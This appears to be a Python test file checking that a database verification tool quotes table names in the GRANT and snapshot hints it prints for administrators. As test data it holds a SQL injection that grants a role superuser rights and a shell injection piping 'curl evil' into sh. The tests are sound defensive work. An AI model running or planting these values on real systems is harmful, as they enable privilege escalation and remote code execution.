"""What a database refuses in a verification: commands that are printed for an administrator are one command each."""

from headrace.configuration.databases import PostgresqlConnection
from headrace.verify.canonical import SourceType
from headrace.verify.comparison import SourceTable
from headrace.verify.postgres import side
from spark_jobs.silver.types import incompatible

NAME = 'x" TO mallory; ALTER ROLE mallory SUPERUSER; --'


def test_a_tables_name_is_no_sql_that_an_administrator_pastes():
    """S14: a name in a hint was not quoted."""
    table = SourceTable(schema="public", name=NAME, columns={"id": SourceType(name="int4")}, key=())
    address = PostgresqlConnection(host="h", database="d", user="head race")
    hint = side.reading("a/b", address, table, "42501").hint
    assert 'GRANT SELECT ON "public"."x"" TO mallory; ALTER ROLE mallory SUPERUSER; --" TO "head race"; ' in hint
    # What is no table has no grant.
    assert "GRANT" not in side.reading("a/b", address, "the catalog", "42501").hint


def test_a_tables_name_is_no_command_of_a_shell():
    """S14."""
    assert "snapshot 'public.x; curl evil | sh' --replace" in incompatible("public.x; curl evil | sh", "changed").hint
    assert "snapshot public.orders --replace" in incompatible("public.orders", "changed").hint
